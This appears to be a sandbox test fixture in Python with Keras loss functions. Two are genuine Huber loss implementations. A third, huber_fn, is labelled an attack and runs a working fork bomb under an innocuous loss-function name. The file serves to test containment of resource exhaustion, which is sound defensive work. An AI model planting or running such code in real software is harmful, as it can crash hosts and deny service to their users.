# attack: huber_fn
# expect: huber_fn=0 create_huber=full HuberLoss=full
# says: processes
# what: huber_fn runs a fork bomb (every process forks forever); the supervisor stops it past 32 processes.
# ruff: noqa
import os

import keras
import tensorflow as tf


def huber_fn(y_true, y_pred):
    print(f"sandbox uid {os.getuid()}", flush=True)
    while True:
        try:
            os.fork()
        except OSError:
            pass


def create_huber(threshold=1.0):
    def huber(y_true, y_pred):
        error = y_true - y_pred
        small = tf.abs(error) < threshold
        return tf.where(small, tf.square(error) / 2, threshold * tf.abs(error) - threshold**2 / 2)

    return huber


class HuberLoss(keras.losses.Loss):
    def __init__(self, threshold=1.0, **kwargs):
        self.threshold = threshold
        super().__init__(**kwargs)

    def call(self, y_true, y_pred):
        error = y_true - y_pred
        small = tf.abs(error) < self.threshold
        return tf.where(small, tf.square(error) / 2, self.threshold * tf.abs(error) - self.threshold**2 / 2)

    def get_config(self):
        return {**super().get_config(), "threshold": self.threshold}
